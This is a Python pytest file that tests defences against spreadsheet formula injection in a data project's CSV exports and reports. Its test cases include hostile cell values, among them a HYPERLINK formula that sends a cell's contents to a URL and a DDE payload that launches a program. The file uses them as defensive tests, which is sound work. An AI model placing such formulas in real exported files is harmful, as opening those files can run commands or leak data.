"""A cell that a spreadsheet would run: neutral in every table that leaves, and exactly itself again when read back."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import duckdb
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from brightline.feeds.batches import Table
from brightline.feeds.csv_reader import read_csv
from brightline.feeds.manifest import Input
from brightline.model import sheet
from brightline.oversight.reports import as_csv
from brightline.warehouse import exporting

SOURCE = Path(sheet.__file__).parents[1]
LINK = '=HYPERLINK("http://127.0.0.1:1/?"&B2,"open")'
RUN = [LINK, "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "＝1+1", "+", "-", "=", "'=1", "''=1"]
KEPT = ["", "Quay 3", "'Ndrangheta", "''", "-5", "+49", "-1.5e3", "a=1", " =1", "5-3", "'quoted'"]
BEGINS = tuple("=+-@\t\r\n＝＋－＠")


@pytest.mark.parametrize("text", RUN)
def test_r10_what_would_run_begins_with_an_apostrophe(text: str) -> None:
    assert sheet.neutral(text) == f"'{text}"
    assert sheet.restored(sheet.neutral(text)) == text


@pytest.mark.parametrize("text", KEPT)
def test_r10_what_would_not_run_stays(text: str) -> None:
    assert sheet.neutral(text) == text
    assert sheet.restored(text) == text


@given(st.text(alphabet="'=+-@\t\r\n＝ab1.e "))
def test_r10_reading_back_restores_every_text(text: str) -> None:
    made = sheet.neutral(text)
    assert sheet.restored(made) == text
    assert not made.startswith(BEGINS) or float(made) is not None


@given(st.lists(st.text(alphabet="'=+-@\t\r\n＝ab1.e "), min_size=1, max_size=20))
def test_r10_the_database_s_form_is_the_same(texts: list[str]) -> None:
    made = pa.table({"x": texts})
    told = duckdb.sql(f"SELECT {sheet.in_sql('x')} FROM made").fetchall()
    assert [row[0] for row in told] == [sheet.neutral(text) for text in texts], made


def _row(key: str) -> dict[str, Any]:
    some: dict[str, Any] = {}
    for field in exporting._schema():
        some[field.name] = (
            datetime(2026, 5, 4, tzinfo=UTC)
            if pa.types.is_timestamp(field.type)
            else -3
            if pa.types.is_integer(field.type)
            else []
            if pa.types.is_list(field.type)
            else "x"
        )
    return {**some, "source": "harbour", "source_key": key, "entities": "[]"}


def test_r10_an_export_holds_no_formula_and_comes_back_whole(tmp_path: Path) -> None:
    keys = sorted([*RUN, *KEPT[1:]])
    table = pa.Table.from_pylist([_row(key) for key in keys], schema=exporting._schema())
    path = tmp_path / "export.csv"
    assert exporting._write("csv", [table], path) == len(keys)
    with path.open(encoding="utf-8", newline="") as text:
        written = list(csv.DictReader(text))
    assert tuple(written[0]) == sheet.EXPORT
    for row in written:
        for cell in row.values():
            assert not cell.startswith(BEGINS) or sheet._IS_NUMBER.match(cell), cell
    assert {row["version"] for row in written} == {"-3"}
    batches = read_csv(path, Input.model_validate({"format": "csv", "path": "x.csv", "keys": ["source_key"]}), {})
    back = [row[1] for batch in batches if isinstance(batch, Table) for row in batch.rows]
    assert sorted(back) == sorted(key.lstrip(" ") for key in keys)


def test_r10_another_s_file_keeps_its_apostrophes(tmp_path: Path) -> None:
    path = tmp_path / "theirs.csv"
    path.write_text("key,name\n1,'=1\n", "utf-8")
    batches = read_csv(path, Input.model_validate({"format": "csv", "path": "x.csv", "keys": ["key"]}), {})
    assert [list(row) for batch in batches if isinstance(batch, Table) for row in batch.rows] == [["1", "'=1"]]


def test_r10_a_report_holds_no_formula() -> None:
    row = {"cell": [LINK, "-2+3"], "value": -4, "suppressed": False, "rounded": False}
    document = {
        "figures": [{"key": "k", "title": "t", "unit": "u", "rows": [row], "total": None}],
        "ledger": {"size": 1, "root": "x"},
        "definitions": {"version": 1, "sha256": "x"},
        **dict.fromkeys(("report", "form", "as_of", "from", "sha256"), "x"),
    }
    rows = list(csv.reader(io.StringIO(as_csv(document))))
    assert ["k", "t", f"'{LINK}", "'-2+3", "", "-4", "u"] in rows


def test_r10_all_tables_are_written_by_the_one_writer() -> None:
    found = {
        str(path.relative_to(SOURCE))
        for path in SOURCE.rglob("*.py")
        if any(word in path.read_text("utf-8") for word in ("csv.writer", "DictWriter", "write_csv", "to_csv", "xlsx"))
        and "demo" not in path.parts
    }
    assert found == {"model/sheet.py", "warehouse/exporting.py"}
